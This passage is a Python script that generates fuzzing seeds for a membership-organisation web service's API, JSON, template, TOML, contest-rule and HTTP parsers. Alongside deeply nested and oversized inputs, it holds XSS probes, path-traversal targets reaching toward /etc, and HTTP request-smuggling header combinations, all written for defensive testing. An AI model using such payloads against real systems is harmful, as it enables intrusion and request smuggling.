#!/usr/bin/env python3
"""Writes the generated seeds and the dictionaries of every fuzz target.

    fuzz/make_seeds.py OUT_DIR

OUT_DIR/<target>/ gets seeds too big or too regular to commit (nesting
10^5 deep, records at the import's 1 MiB limit, bodies near the server's
1 MiB body limit, 16 KiB headers) plus the API's per-route seeds, which are
made from src/server/api_routes.h so a new route is fuzzed from its first
run. OUT_DIR/dict/<target>.dict is fuzz/dict/<target>.dict, for the API
with every registered route added. Deterministic: the same tree gives the
same files. scripts/run-fuzz.sh runs it before fuzzing; the committed seeds
stay in fuzz/corpus/<target>/.
"""

import hashlib
import json
import os
import re
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
MIB = 1 << 20
BODY_BYTES = 256 * 1024  # a message body's limit (src/messaging/messaging.h)

# The depth the crash needed was about 70,000; seeds go past it.
DEEP = 100_000


def deep_array(depth, inner=b"1"):
    return b"[" * depth + inner + b"]" * depth


def deep_object(depth):
    return b'{"a":' * depth + b"1" + b"}" * depth


# --- api ----------------------------------------------------------------------

# Who (api_fuzz.cc): 0 officer, 1 caller, 2 membership admin, 3 staff,
# 4 admin, 5 nobody; +8 bearer, +16 cookie without CSRF, +24 foreign Origin.
OFFICER, CALLER, MEMBERSHIP_ADMIN, STAFF, ADMIN, NOBODY = range(6)
BEARER, NO_CSRF, FOREIGN = 8, 16, 24

# Who normally calls a route, by capability; session routes by id below.
BY_CAPABILITY = {
    "member.search": OFFICER, "member.view": OFFICER,
    "member.contact.view": MEMBERSHIP_ADMIN, "grant.manage": ADMIN,
    "account.manage": ADMIN, "audit.read": ADMIN, "phonebank.manage": OFFICER,
    "phonebank.call": CALLER, "message.draft": OFFICER,
    "message.approve": STAFF, "message.send": OFFICER,
}
BY_ID = {
    "session.login": NOBODY, "join.get": CALLER, "join.post": CALLER,
    "calls.get": CALLER, "me.stats": CALLER, "me.endpoint": CALLER,
    "me.endpoint_verify": CALLER, "campaigns.list": CALLER,
    "messages.list": OFFICER, "me.approvals": STAFF, "me.approve": STAFF,
}

AUDIENCE = {"statuses": ["current"], "consents": ["phone"],
            "suppressions_none": ["do_not_contact"], "joined_from": "2000-01-01",
            "exclude_canaries": True}

# (param, query, body) that make a route do its work in api_fuzz's world.
# param's first byte picks which real value fills {id} (api_fuzz.cc Fill).
GOOD = {
    "session.login": ("", "", {"login": "officer", "password": "fuzzing password"}),
    "members.search": ("", "unit=E14000530&q=Fuzz&page_size=5", None),
    "members.view": ("0", "", None),
    "members.contact": ("1", "", None),
    "grants.list": ("", "account=2&include_ended=true", None),
    "grants.add": ("", "", {"account": "staff", "role": "officer", "scope": "E14000531",
                            "purpose": "fuzz", "reason": "fuzz", "not_after": "+7d"}),
    "grants.approve": ("0", "", {"reason": "fuzz"}),
    "grants.revoke": ("0", "", {"reason": "fuzz"}),
    "accounts.list": ("", "status=active", None),
    "accounts.suspend": ("3", "", {"reason": "fuzz"}),
    "accounts.reinstate": ("3", "", {"reason": "fuzz"}),
    "access.explain": ("", "account=2&capability=member.view&member=1&at=now", None),
    "audit.events": ("", "member=1&limit=5", None),
    "audit.checkpoints": ("", "", None),
    "audit.proof": ("", "seq=1", None),
    "alerts.list": ("", "open=true", None),
    "alerts.acknowledge": ("0", "", {"note": "seen"}),
    "campaigns.list": ("", "", None),
    "campaigns.create": ("", "", {"name": "c", "scope": "E14000530", "purpose": "p",
                                  "ends_at": "+7d", "audience": AUDIENCE,
                                  "survey": [{"id": "q1", "question": "Q?", "type": "yesno"}]}),
    "campaigns.get": ("0", "", None),
    "campaigns.update": ("0", "", {"script": "Hi {{first_name}}", "version": 1}),
    "campaigns.audience_count": ("1", "", {"audience": AUDIENCE}),
    "audience.count": ("", "", {"scope": "E14000530", "audience": AUDIENCE}),
    "campaigns.state": ("1", "", {"state": "live"}),
    "campaigns.progress": ("0", "", None),
    "invites.create": ("0", "", {"label": "l", "max_joins": 3, "expires_at": "+1d"}),
    "invites.list": ("0", "", None),
    "invites.revoke": ("0", "", {}),
    "join.get": ("0", "", None),
    "join.post": ("0", "", None),
    "calling.next": ("0", "", None),
    "calling.connect": ("0", "", None),
    "calling.outcome": ("0", "", {"outcome": "answered", "answers": {"agm": True}}),
    "calls.get": ("0", "", None),
    "me.stats": ("", "", None),
    "me.endpoint": ("", "", {"phone": "07700 900998"}),
    "me.endpoint_verify": ("", "", {"code": "000000"}),
    "messages.list": ("", "", None),
    "messages.create": ("", "", {"scope": "E14000530", "kind": "campaign", "subject": "S",
                                 "text_body": "Hi {{first_name}} {{unsubscribe_url}}",
                                 "audience": AUDIENCE}),
    "messages.count": ("", "", {"scope": "E14000530", "kind": "campaign",
                                "audience": AUDIENCE}),
    "messages.get": ("0", "", None),
    "messages.update": ("0", "", {"subject": "New {{first_name}}",
                                     "html_body": "<p>{{first_name}}</p>"}),
    "messages.preview": ("0", "", {}),
    "messages.approve": ("0", "", {"version": 1}),
    "messages.send": ("1", "", {"version": 1}),
    "messages.cancel": ("1", "", {}),
    "messages.report": ("0", "", None),
    "me.approvals": ("", "", None),
    "me.approve": ("0", "", {"version": 1}),
    "session.get": ("", "", None),
    "session.logout_everywhere": ("", "", {}),
    "session.logout": ("", "", None),
}

# The routes `serve` adds besides the API (routes.cc AddWebRoutes,
# member_pages.cc); the health routes need an opened data directory.
OTHER_ROUTES = [
    ("GET", "/u/{token}"), ("POST", "/u/{token}"),
    ("GET", "/preferences/{token}"), ("POST", "/preferences/{token}"),
    ("GET", "/"), ("GET", "/join/{token}"), ("GET", "/app/{file}"),
]

# Sign-outs, a suspension, a withdrawn invitation, a new (unverified) phone
# and a cancelled or sent draft change the world for the seeds after them;
# they go last in a pass over the seeds.
LAST = ("session.logout_everywhere", "session.logout", "accounts.suspend", "invites.revoke",
        "me.endpoint", "messages.cancel", "messages.send")


def api_routes():
    text = open(os.path.join(ROOT, "src/server/api_routes.h"), encoding="utf-8").read()
    out = []
    for m in re.finditer(r'\{"([a-z_.]+)",\s*"([A-Z]+)",\s*"([^"]+)",\s*RouteAuth::k(\w+),'
                         r'\s*"([a-z_.]*)"', text):
        out.append({"id": m.group(1), "method": m.group(2), "path": m.group(3),
                    "auth": m.group(4), "cap": m.group(5)})
    if len(out) < 40:
        sys.exit("make_seeds.py: could not read the route table in src/server/api_routes.h")
    return out


def api_input(who, route, param="", query="", ctype="application/json", headers="",
              body=b"", method=0, fill=0):
    if not isinstance(body, bytes):
        body = body.encode()
    fields = [route, param, query, ctype, headers]
    return (bytes([who, method, fill]) + b"\0".join(f.encode("latin-1") for f in fields) +
            b"\0" + body)


def api_seeds():
    seeds = {}
    routes = api_routes()
    ordered = sorted(routes, key=lambda r: r["id"] in LAST)
    for i, r in enumerate(ordered):
        who = BY_ID.get(r["id"], BY_CAPABILITY.get(r["cap"], OFFICER))
        param, query, body = GOOD.get(r["id"], ("", "", None))
        route = r["method"] + " " + r["path"]
        text = json.dumps(body) if body is not None else ""
        prefix = "zz-" if r["id"] in LAST else ""
        seeds[f"{prefix}route-{r['id']}"] = api_input(who, route, param, query,
                                                      body=text)
        # The same with a bearer token, and with the wrong method.
        seeds[f"{prefix}bearer-{r['id']}"] = api_input(who + BEARER, route, param, query,
                                                       body=text)
    for method, path in OTHER_ROUTES:
        route = method + " " + path
        body = "email=1&phone=1&no_email=1" if method == "POST" else ""
        for n in range(2):
            seeds[f"page-{method}-{path.strip('/').split('/')[0] or 'index'}-{n}"] = api_input(
                NOBODY + n, route, str(n), ctype="application/x-www-form-urlencoded", body=body)
        # A mutated token and one that is not a token at all.
        seeds[f"page-{method}-{path.strip('/').split('/')[0] or 'index'}-bad"] = api_input(
            NOBODY, route, "\x05A", fill=2)
        seeds[f"page-{method}-{path.strip('/').split('/')[0] or 'index'}-raw"] = api_input(
            NOBODY, route, "x" * 300 + "%2F..%2F", fill=1)
    # Every method on a few routes (PATCH, HEAD and OPTIONS where not served).
    for m in range(1, 8):
        seeds[f"method-{m}-campaign"] = api_input(OFFICER, "GET /api/v1/campaigns/{id}", "0",
                                                  body='{"version": 1}', method=m)
        seeds[f"method-{m}-next"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/next",
                                              method=m)
    # A whole call, in order (the names sort in this order in a pass).
    seeds["call-1-next"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/next", "0")
    seeds["call-2-connect"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/connect", "0")
    seeds["call-3-status"] = api_input(CALLER, "GET /api/v1/calls/{id}", "0", fill=2 * 4)
    seeds["call-4-outcome"] = api_input(CALLER + BEARER, "POST /api/v1/campaigns/{id}/outcome",
                                        "0", body='{"outcome": "no_answer"}')
    # Calling out of turn, on a campaign never joined, and on wrong ids.
    seeds["next-other-campaign"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/next", "1")
    seeds["next-wrong-kind"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/next", "", fill=3)
    seeds["next-later"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/next", fill=8 + 2)
    seeds["next-no-csrf"] = api_input(CALLER + NO_CSRF, "POST /api/v1/campaigns/{id}/next")
    seeds["next-foreign"] = api_input(CALLER + FOREIGN, "POST /api/v1/campaigns/{id}/next")
    seeds["contact-as-officer"] = api_input(OFFICER, "GET /api/v1/members/{id}/contact", "2")
    seeds["contact-as-caller"] = api_input(CALLER, "GET /api/v1/members/{id}/contact", "2")
    seeds["progress-as-caller"] = api_input(CALLER, "GET /api/v1/campaigns/{id}/progress")
    seeds["raw-target"] = api_input(OFFICER, "/api/v1/members?unit=E14000530&q=%00%ff")
    seeds["raw-bad-percent"] = api_input(OFFICER, "/api/v1/members/%zz")
    seeds["extra-headers"] = api_input(
        CALLER, "POST /api/v1/campaigns/{id}/outcome",
        headers="Authorization: Basic eA==\nOrigin: null\nCookie: sb_session=x; sb_session=y",
        body='{"outcome": "no_answer"}')
    seeds["bearer-garbage"] = api_input(NOBODY, "GET /api/v1/session",
                                        headers="Authorization: Bearer \x01\xff")

    # Hostile bodies (issue 13) on the JSON routes that read them.
    outcome = "POST /api/v1/campaigns/{id}/outcome"
    hostile = {
        # The crash: a signed-in caller's nested survey answers.
        "deep-answers-70000": b'{"outcome":"answered","answers":{"q1":' + deep_array(70_000, b"")
                              + b"}}",
        "deep-answers-100000": b'{"outcome":"answered","answers":{"q1":' +
                               deep_array(DEEP, b"") + b"}}",
        "deep-answers-at-body-limit": b'{"outcome":"answered","answers":{"q1":' +
                                      deep_array(5 * DEEP - 30, b"") + b"}}",
        "deep-answers-objects": b'{"outcome":"answered","answers":' + deep_object(DEEP) + b"}",
        "huge-number": b'{"outcome":"answered","answers":{"q1":1e999999,'
                       b'"q2":-123456789012345678901234567890123}}',
        "duplicate-keys": b'{"outcome":"answered","outcome":"no_answer","answers":{"agm":true},'
                          b'"answers":{"agm":false}}',
        "nul-escaped": b'{"outcome":"answered\\u0000x","answers":{"a\\u0000":"\\u0000"}}',
        "nul-raw": b'{"outcome":"answ\x00ered"}',
        "lone-surrogate": b'{"outcome":"\\ud800","answers":{"\\udc00":"\\ud800\\u0041"}}',
        "invalid-utf8": b'{"outcome":"\xed\xa0\x80\xc0\xaf\xff"}',
        "bom": b'\xef\xbb\xbf{"outcome":"no_answer"}',
        "trailing": b'{"outcome":"no_answer"} x',
        "not-json": b"outcome=no_answer",
        "array": b'[{"outcome":"no_answer"}]',
        "long-string": b'{"outcome":"no_answer","answers":{"q":"' + b"a" * (MIB - 100) + b'"}}',
    }
    for name, body in hostile.items():
        seeds[f"hostile-outcome-{name}"] = api_input(CALLER, outcome, body=body)
    # Nested audiences from an organiser (campaigns, both audience counts).
    deep_audience = b'{"scope":"E14000530","name":"c","purpose":"p","ends_at":"+7d","kind":' \
                    b'"campaign","audience":{"units":' + deep_array(DEEP, b'"E14000530"') + b"}}"
    for route in ("POST /api/v1/campaigns", "POST /api/v1/audience-count",
                  "POST /api/v1/messages/audience-count", "POST /api/v1/messages",
                  "POST /api/v1/campaigns/{id}/audience-count"):
        name = route.split(" ")[1].strip("/").replace("/", "-").replace("{id}", "id")
        seeds[f"hostile-deep-audience-{name}"] = api_input(OFFICER, route, body=deep_audience)
    seeds["hostile-deep-patch"] = api_input(
        OFFICER, "PATCH /api/v1/campaigns/{id}", "0",
        body=b'{"survey":' + deep_array(DEEP, b"") + b"}")
    seeds["hostile-deep-message-patch"] = api_input(
        OFFICER, "PATCH /api/v1/messages/{id}", "0",
        body=b'{"from":' + deep_object(DEEP) + b"}")
    seeds["hostile-deep-login"] = api_input(NOBODY, "POST /api/v1/session",
                                            body=b'{"login":' + deep_array(DEEP) + b"}")
    seeds["hostile-next-not-json"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/next",
                                               body=b"{not json")
    seeds["hostile-deep-next"] = api_input(CALLER, "POST /api/v1/campaigns/{id}/next",
                                           body=deep_array(DEEP))
    # Deep and long templates through a draft.
    # Saving checks a template; a preview renders it (mstch). In this order,
    # on the second draft, which the other seeds leave alone until the end.
    seeds["hostile-deep-template-2-preview"] = api_input(
        OFFICER, "POST /api/v1/messages/{id}/preview", "1", body="{}")
    seeds["hostile-deep-template-1-save"] = api_input(
        OFFICER, "PATCH /api/v1/messages/{id}", "1",
        body=json.dumps({"text_body": "{{#first_name}}" * (BODY_BYTES // 30) + "x" +
                         "{{/first_name}}" * (BODY_BYTES // 30)}))
    seeds["hostile-deep-html"] = api_input(
        OFFICER, "PATCH /api/v1/messages/{id}", "1",
        body=json.dumps({"html_body": "<div>" * (BODY_BYTES // 5)}))
    seeds["hostile-misnested-html"] = api_input(
        OFFICER, "PATCH /api/v1/messages/{id}", "1",
        body=json.dumps({"html_body": "<b><i>" * (BODY_BYTES // 14) +
                         "</b></i>" * (BODY_BYTES // 14)}))
    for ctype in ("application/json; charset=utf-8", "APPLICATION/JSON", "application/jsonx",
                  "application/json; charset=utf-16", "text/plain", "",
                  "application/json\r\nx: y", "multipart/form-data; boundary=x"):
        seeds[f"ctype-{hashlib.sha1(ctype.encode()).hexdigest()[:8]}"] = api_input(
            CALLER, outcome, ctype=ctype, body='{"outcome": "no_answer"}')
    return seeds


# --- the other targets ------------------------------------------------------------


def json_seeds():
    bodies = {
        "deep-array": deep_array(DEEP),
        "deep-object": deep_object(DEEP),
        "deep-mixed": b'{"a":[' * (DEEP // 2) + b"1" + b"]}" * (DEEP // 2),
        "deep-70000-answers": b'{"outcome":"answered","answers":{"q1":' +
                              deep_array(70_000, b"") + b"}}",
        "deep-unclosed": b"[" * DEEP,
        "deep-array-at-body-limit": deep_array(5 * DEEP),  # 1,000,001 bytes
        "huge-numbers": b'{"a":1e999999,"b":-1e-999999,"c":123456789012345678901234567890,'
                        b'"d":18446744073709551616,"e":-9223372036854775809,"f":0.' + b"1" * 5000
                        + b"}",
        "duplicate-keys": b'{"a":1,"a":2,"scope":"E14000530","scope":"E14000531"}',
        "nul": b'{"a":"\\u0000","\\u0000":1}',
        "nul-raw": b'{"a":"x\x00y"}',
        "lone-surrogates": b'{"a":"\\ud800","b":"\\udc00","c":"\\ud800\\u0041",'
                           b'"d":"\\udbff\\udfff"}',
        "invalid-utf8": b'{"a":"\xed\xa0\x80\xf4\x90\x80\x80\xc0\xaf"}',
        "bom": b'\xef\xbb\xbf{"a":1}',
        "long-string": b'{"a":"' + b"x" * (MIB - 16) + b'"}',
        "long-escapes": b'{"a":"' + b"\\u00e9" * 150_000 + b'"}',
        "wide-array": b'{"a":[' + b"1," * 300_000 + b"1]}",
        "many-keys": b"{" + b",".join(b'"k%d":%d' % (i, i) for i in range(50_000)) + b"}",
    }
    seeds = {}
    for name, body in bodies.items():
        seeds[f"body-{name}"] = b"\x00" + body
    segments = {
        "full": json.dumps({"scope": "E14000530", "units": ["BR-ALD-1"], "statuses": ["current"],
                            "types": ["standard"], "consents": ["phone", "email"],
                            "suppressions_none": ["do_not_contact", "no_phone"],
                            "joined_from": "2020-01-01", "joined_to": "2026-01-01",
                            "lapsed_from": "2021-01-01", "lapsed_to": "2022-01-01",
                            "not_contacted_since": "2026-10-01T00:00:00Z",
                            "exclude_canaries": True}).encode(),
        "by-id": b'{"scope":3,"units":[5,5,5]}',
        "deep-units": b'{"scope":"E14000530","units":' + deep_array(DEEP, b'"E14000530"') + b"}",
        "deep-scope": b'{"scope":' + deep_object(DEEP) + b"}",
        "huge-ids": b'{"scope":1e308,"units":[18446744073709551616,-1,0]}',
        "duplicates": b'{"scope":"E14000530","scope":"K02000001","statuses":["current"],'
                      b'"statuses":["lapsed"]}',
        "lone-surrogate": b'{"scope":"\\ud800"}',
        "dates": b'{"scope":"E14000530","joined_from":"9999-99-99","joined_to":"0000-01-01",'
                 b'"not_contacted_since":"2026-02-30T25:61:61Z"}',
        "many-units": b'{"scope":"K02000001","units":[' + b",".join([b'"E14000530"'] * 100_000)
                      + b"]}",
    }
    for name, body in segments.items():
        seeds[f"segment-{name}"] = b"\x01" + body
        seeds[f"audience-{name}"] = b"\x02" + body
    return seeds


def template_seeds():
    # Templates reach Compile through a draft, whose bodies are at most
    # 256 KiB (messaging.h MessageLimits::body_bytes): seeds fill that.
    limit = BODY_BYTES
    fits = limit // 30  # nested sections
    s = {
        "deep-sections": "{{#first_name}}" * fits + "x" + "{{/first_name}}" * fits,
        "deep-inverted": "{{^first_name}}" * fits + "x" + "{{/first_name}}" * fits,
        "deep-mixed": "{{#unit_name}}{{^first_name}}" * (fits // 2) + "{{first_name}}" +
                      "{{/first_name}}{{/unit_name}}" * (fits // 2),
        "deep-unclosed": "{{#first_name}}" * (limit // 15),
        "deep-closing": "{{/first_name}}" * (limit // 15),
        "many-tags": "{{first_name}} " * (limit // 15),
        "long-line": "a" * limit,
        "unclosed-tag": "Hello {{first_name",
        "triple": "{{{first_name}}} {{& unit_name}}",
        "partials": "{{> x}}{{=<% %>=}}",
        "comment": "{{! }} }}{{first_name}}",
        "newline-tag": "{{first\nname}}",
        "crlf": "Dear {{first_name}},\r\n\r\n{{unsubscribe_url}}\r\n",
        "nul": "a\x00{{first_name}}",
        "lone-surrogate": "\xed\xa0\x80{{first_name}}",
    }
    html = {
        "deep-divs": "<div>" * (limit // 5),
        "deep-lists": "<ul><li>" * (limit // 8),
        "deep-tables": "<table><tr><td>" * (limit // 15),
        "misnested": "<b><i>" * (limit // 14) + "</b></i>" * (limit // 14),
        "deep-sections-in-html": "<p>" + "{{#first_name}}<b>" * (limit // 40) + "x" +
                                 "</b>{{/first_name}}" * (limit // 40) + "</p>",
        "links": '<a href="{{unsubscribe_url}}">u</a><a href=" JAVASCRIPT:x">j</a>'
                 '<a href="{{preferences_url}}">p</a>',
        "script": "<script>alert(1)</script><img src=x onerror=y>",
        "long-attribute": '<a href="https://' + "a" * (limit - 40) + '">x</a>',
        "unclosed": "<p><b>{{first_name}}",
        "comment": "<!-- {{first_name}} --><p>{{first_name}}</p>",
    }
    seeds = {}
    for name, text in s.items():
        seeds[f"text-{name}"] = b"\x00" + text.encode("latin-1")
    for name, text in html.items():
        seeds[f"html-{name}"] = b"\x01" + text.encode("latin-1")
    seeds["text-empty-first-name"] = b"\x02{{^first_name}}friend{{/first_name}}"
    return seeds


def policy_seeds():
    policy = open(os.path.join(ROOT, "src/access/policy/policy.cc"), encoding="utf-8").read()
    default = re.search(r'R"toml\((.*?)\)toml"', policy, re.S).group(1).encode()
    key = b".".join([b"a"] * DEEP)
    tomls = {
        "deep-arrays": b"x = " + deep_array(DEEP),
        "deep-inline-tables": b"x = " + b"{a=" * DEEP + b"1" + b"}" * DEEP,
        "deep-dotted-key": key + b" = 1\n",
        "deep-table-header": b"[" + key + b"]\nx = 1\n",
        "deep-array-of-tables": b"[[" + key + b"]]\nx = 1\n",
        "deep-just-past-limit": b"x = " + deep_array(257),
        "duplicate-keys": b"a = 1\na = 2\n[t]\n[t]\n",
        "huge-numbers": b"a = 99999999999999999999\nb = 0x7fffffffffffffff\nc = -0o777777777777"
                        b"777777777777\nd = 1e99999\ne = inf\nf = nan\ng = 0b" + b"1" * 70 + b"\n",
        "nul": b'a = "x\x00y"\n',
        "lone-surrogate": b'a = "\\uD800"\nb = "\\U0000DC00"\n',
        "long-string": b'a = """' + b"x" * (MIB - 16) + b'"""\n',
        "crlf": b"a = 1\r\n[b]\r\nc = 'd'\r\n",
        "dates": b"a = 1979-05-27T07:32:00Z\nb = 9999-12-31T23:59:60.999999999-23:59\n",
        "many-keys": b"".join(b"k%d = %d\n" % (i, i) for i in range(50_000)),
    }
    seeds = {}
    for name, text in tomls.items():
        seeds[f"any-{name}"] = b"\x04" + text
        seeds[f"policy-{name}"] = b"\x00" + text
    seeds["policy-default"] = b"\x00" + default
    seeds["policy-default-plus-duplicate-role"] = (
        b"\x01" + b'\n[roles.owner]\ncapabilities = ["member.view"]\n')
    seeds["policy-default-plus-deep-role"] = (
        b"\x01" + b"\n[roles.x]\ncapabilities = " + deep_array(DEEP, b'"member.view"') + b"\n")
    seeds["policy-default-plus-deep-quota"] = (
        b"\x01" + b'\n[roles.y]\ncapabilities = ["member.view"]\nquotas = ' +
        b"{ a = " * 300 + b"1" + b" }" * 300 + b"\n")
    seeds["config-default"] = b"\x03"
    seeds["config-deep"] = b"\x02[server]\n" + key + b" = 1\n"
    seeds["config-huge-body"] = b"\x02[server]\nmax_body_bytes = 99999999999999999999\n"
    return seeds


def contest_seeds():
    # contest_fuzz's first byte: 0 a whole rulebook, 1 the example and then
    # the rest, 2 the example with the rest as its expression.
    example = open(os.path.join(ROOT, "examples/contest-2020.toml"), "rb").read()
    edits = {
        "unknown-key": (b"version = 1", b"version = 1\nflavour = 1"),
        "reversed-dates": (b"nominations_close = 2027-01-21T09:00:00Z",
                           b"nominations_close = 2027-01-07T12:00:00Z"),
        "local-time": (b"announced = 2027-01-07T09:00:00Z", b"announced = 2027-01-07T09:00:00"),
        "zone-table": (b"announced = 2027-01-07T09:00:00Z",
                       b'announced = { at = 2027-01-07T09:00:00, zone = "Europe/London" }'),
        "zone-gap": (b"ballot_close = 2027-02-18T09:00:00Z",
                     b'ballot_close = { at = 2027-03-28T01:30:00, zone = "Europe/London" }'),
        "zone-unknown": (b"announced = 2027-01-07T09:00:00Z",
                         b'announced = { at = 2027-01-07T09:00:00, zone = "Europe/Atlantis" }'),
        "duplicate-candidate": (b'id = "wrenfield"', b'id = "vauquelin"'),
        "alias-collision": (b'"TW"', b'"dqh"'),
        "leave-unknown-candidate": (
            b"staff_flag = true",
            b'staff_flag = true\n[[neutrality.leave]]\naccount = "organiser-1"\n'
            b'candidate = "xyz"\nfrom = 2027-01-08T00:00:00Z\nuntil = 2027-02-01T00:00:00Z'),
        "leave": (
            b"staff_flag = true",
            b'staff_flag = true\nstaff_accounts = ["organiser-2"]\n[[neutrality.leave]]\n'
            b'account = "organiser-1"\ncandidate = "wrenfield"\nfrom = 2027-01-08T00:00:00Z\n'
            b'until = { at = 2027-02-01T00:00:00, zone = "Europe/London" }'),
        "unknown-body": (b"(clps", b"(cllps"),
        "unions-of-people": (b"mps >=", b"mps.unions >="),
        "percent-over-100": (b"mps >= 10%", b"mps >= 100.5%"),
        "units-without-kind": (b'unit_kind = "constituency"\n', b""),
        "people-without-size": (b"size = 200\n", b""),
        "word-limit": (b"word_limit = 50", b"word_limit = 1001"),
        "unknown-status": (b'statuses = ["current"]', b'statuses = ["current", "member"]'),
        "watermarked": (b'exports = "none"', b'exports = "watermarked"'),
        "bad-id": (b'id = "leader-2027"', b'id = "Leader 2027"'),
    }
    seeds = {"example": b"\x00" + example, "example-appended": b"\x01"}
    for name, (old, new) in edits.items():
        assert old in example, name
        seeds[f"file-{name}"] = b"\x00" + example.replace(old, new, 1)
    cut = example.index(b"[[candidates]]")
    back = example.index(b"[bodies.mps]")
    many = b"".join(b'[[candidates]]\nid = "c%d"\nname = "Candidate %d"\n' % (i, i)
                    for i in range(101))
    seeds["file-101-candidates"] = b"\x00" + example[:cut] + many + example[back:]
    seeds["file-no-candidates"] = b"\x00" + example[:cut] + example[back:]
    affiliates = b"".join(b'[[bodies.affiliates.affiliates]]\nid = "a%d"\nname = "A"\n'
                          b"membership = 1\n" % i for i in range(10_001))
    seeds["file-10001-affiliates"] = b"\x00" + example.replace(
        b"[qualification]", affiliates + b"[qualification]", 1)
    leave = b"".join(b'[[neutrality.leave]]\naccount = "staff-%d"\ncandidate = "wrenfield"\n'
                     b"from = 2027-01-08T00:00:00Z\nuntil = 2027-01-09T00:00:00Z\n" % i
                     for i in range(1_001))
    seeds["file-1001-leave"] = b"\x00" + example.replace(
        b"staff_flag = true\n", b"staff_flag = true\n" + leave, 1)
    seeds["append-body"] = b'\x01\n[bodies.lords]\nkind = "people"\nsize = 90\n'
    seeds["append-candidate"] = (
        b'\x01\n[[candidates]]\nid = "extra"\nname = "Extra Person"\naliases = ["EP"]\n')
    seeds["append-duplicate-table"] = b"\x01\n[contest]\nid = \"x\"\n"
    key = b".".join([b"a"] * DEEP)
    seeds["file-deep-dotted-key"] = b"\x00" + key + b" = 1\n"
    seeds["file-deep-arrays"] = b"\x00x = " + deep_array(DEEP)
    start = example.index(b"expression = ")
    end = example.index(b'"""', example.index(b'"""', start) + 3) + 3
    seeds["file-huge-expression"] = (b"\x00" + example[:start] + b'expression = "' +
                                     b"(" * (MIB - 64) + b'"' + example[end:])
    expressions = {
        "2020": b"mps >= 10% and (clps >= 5% or (affiliates >= 3 and affiliates.unions >= 2 "
                b"and affiliates.membership >= 5%))",
        "strict": b"mps > 10 or mps > 12.5%",
        "depth-16": b"(" * 16 + b"mps >= 1" + b")" * 16,
        "depth-17": b"(" * 17 + b"mps >= 1" + b")" * 17,
        "deep-10e5": b"(" * DEEP + b"mps >= 1" + b")" * DEEP,
        "unclosed-1000": b"(" * 1000,
        "tokens-201": b" or ".join([b"mps >= 1"] * 51),
        "bytes-2001": b"mps >= 1" + b" " * 1993,
        "percent-edge": b"mps >= 100% and clps >= 0% and affiliates.membership > 99.99%",
        "huge-number": b"mps >= 999999999999 and affiliates.membership >= 9999999999999",
        "syntax": b"mps >= and",
        "unicode": "mps \u2265 10%".encode(),
        "nul": b"mps >= 1\x00",
    }
    for name, expr in expressions.items():
        seeds[f"expr-{name}"] = b"\x02" + expr
    return seeds


def http_seeds():
    def req(method="GET", target="/api/v1/session", headers=(), body=b""):
        lines = [f"{method} {target} HTTP/1.1".encode(), b"Host: 127.0.0.1:8080"]
        lines += [h if isinstance(h, bytes) else h.encode() for h in headers]
        return b"\r\n".join(lines) + b"\r\n\r\n" + body
    post = lambda body, *h: req("POST", "/api/v1/campaigns/1/outcome",
                                ("Content-Type: application/json",) + h, body)
    body = b'{"outcome":"no_answer"}'
    seeds = {
        "get": req(),
        "post": post(body, f"Content-Length: {len(body)}"),
        "chunked": post(b"5\r\n{\"a\":\r\n2;ext=1\r\n1}\r\n0\r\nTrailer: x\r\n\r\n",
                        "Transfer-Encoding: chunked"),
        "pipelined": req() * 3 + req(headers=("Connection: close",)),
        "obs-fold": req(headers=("X-A: one", " two", "\tthree", "Cookie: sb_session=x;",
                                 " csrf=y")),
        "unknown-te": post(body, "Transfer-Encoding: xchunked", f"Content-Length: {len(body)}"),
        "te-and-cl": post(b"0\r\n\r\n", "Transfer-Encoding: chunked", "Content-Length: 5"),
        "te-list": post(b"0\r\n\r\n", "Transfer-Encoding: gzip, chunked"),
        "te-chunked-twice": post(b"0\r\n\r\n", "Transfer-Encoding: chunked",
                                 "Transfer-Encoding: chunked"),
        "double-cl": post(body, f"Content-Length: {len(body)}", "Content-Length: 0"),
        "cl-leading-zeros": post(body, f"Content-Length: 000{len(body)}"),
        "cl-plus": post(body, f"Content-Length: +{len(body)}"),
        "cl-huge": post(body, "Content-Length: 99999999999999999999999"),
        "chunk-huge": post(b"ffffffffffffffff\r\nx\r\n0\r\n\r\n", "Transfer-Encoding: chunked"),
        "http10": req().replace(b"HTTP/1.1", b"HTTP/1.0"),
        "absolute-form": req(target="http://127.0.0.1:8080/api/v1/session"),
        "asterisk": req("OPTIONS", "*"),
        "bare-lf": b"GET / HTTP/1.1\nHost: x\n\n",
        "nul-header": req(headers=(b"X-A: a\x00b",)),
        "cr-in-value": req(headers=(b"X-A: a\rb",)),
        "space-before-colon": req(headers=("Content-Length : 0",)),
        "expect": post(body, "Expect: 100-continue", f"Content-Length: {len(body)}"),
        "bad-percent": req(target="/api/v1/members/%zz%00%"),
        "nul-percent": req(target="/u/%00/..%2F..%2Fetc"),
        "unknown-method": req("PATCH", "/api/v1/messages/1") + req("BREW", "/"),
        "many-headers": req(headers=[f"X-{i}: {i}" for i in range(2000)]),
        "header-at-limit": req(headers=("X-Big: " + "a" * (16 * 1024 - 60),)),
        "header-over-limit": req(headers=("X-Big: " + "a" * (16 * 1024 + 10),)),
        "long-target": req(target="/" + "a" * (16 * 1024)),
        "body-at-limit": post(b"a" * (MIB - 8), f"Content-Length: {MIB - 8}"),
        "body-over-limit": post(b"a" * (MIB + 8), f"Content-Length: {MIB + 8}"),
        "chunked-over-limit": post(b"100001\r\n" + b"a" * (MIB + 1) + b"\r\n0\r\n\r\n",
                                   "Transfer-Encoding: chunked"),
        "deep-json-body": post(deep_array(DEEP), f"Content-Length: {2 * DEEP + 1}"),
    }
    out = {}
    for name, data in seeds.items():
        out[f"all-{name}"] = b"\x00\x00" + data
        out[f"slow-{name}"] = b"\x07\x00" + data if len(data) < 64 * 1024 else None
        out[f"small-limit-{name}"] = b"\x00\x01" + data
    return {k: v for k, v in out.items() if v is not None}


def csv_seeds():
    # Bytes 0 and 1 are csv_fuzz's options; 0x80 in byte 0 asks for the
    # product's 1 MiB record limit.
    row = b"a," * 10 + b"b\n"
    return {
        "record-at-limit": b"\x80\x0f" + b"x" * (MIB - 2) + b"\n" + row,
